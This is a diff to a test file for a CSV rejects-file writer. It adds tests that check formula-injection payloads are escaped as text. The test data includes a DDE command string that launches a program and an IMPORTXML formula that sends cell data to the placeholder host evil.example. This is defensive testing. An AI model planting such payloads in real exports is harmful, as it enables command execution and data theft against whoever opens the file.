@@ -123,7 +123,7 @@ describe('a row of the file', () => {
       ),
     ).toBe(
       'row 7: received_on: Enter a real date as YYYY-MM-DD or DD/MM/YYYY (not "31/02/2026"); ' +
-        'cjs_stage: Enter one of not_reported, pre_charge, out_of_court, pre_sentence, community_sentence, custody, post_release (not "later"); ' +
+        'cjs_stage: Enter one of not_reported, pre_charge, out_of_court, pre_sentence, community_sentence, custody, post_release, referral_order (not "later"); ' +
         'initiated_by: Enter a value',
     );
   });
@@ -132,5 +132,38 @@ describe('a row of the file', () => {
     expect(csvLine(['a', 'b,c', 'say "hi"', 'two\nlines'])).toBe(
       'a,"b,c","say ""hi""","two\nlines"\r\n',
     );
+  });
+});
+
+describe('formula cells in a rejects file', () => {
+  const payloads = [
+    "=cmd|' /C calc'!A0",
+    '=IMPORTXML("http://evil.example/?"&A1,"//a")',
+    '-2+3',
+    '+44 7700 900123',
+    '@SUM(A1:A2)',
+    '\t=1+1',
+    '\r=1+1',
+  ];
+
+  it.each(payloads)('writes %j so a spreadsheet shows it as text', (payload) => {
+    const line = csvLine(['row 2: reason', payload]);
+    const cell = line.slice('row 2: reason,'.length).replace(/^"/, '');
+    expect(cell.startsWith("'")).toBe(true);
+  });
+
+  it('leaves ordinary values alone', () => {
+    expect(csvLine(['Jo', "O'Brien", '2026-01-01'])).toBe("Jo,O'Brien,2026-01-01\r\n");
+  });
+
+  it('reads a neutralised cell back as it was first sent', async () => {
+    const file = csvLine(['notes', 'victim_phone']) + csvLine(['=1+1', '+44 7700 900123']);
+    const csv = await openCsv(Readable.from([Buffer.from(file)]), {
+      read: (cells) => cells,
+      emptyKey: 'imports.errors.empty',
+    });
+    const rows = [];
+    for await (const row of csv.rows) rows.push(row);
+    expect(rows[0]!.values).toEqual(['=1+1', '+44 7700 900123']);
   });
 });
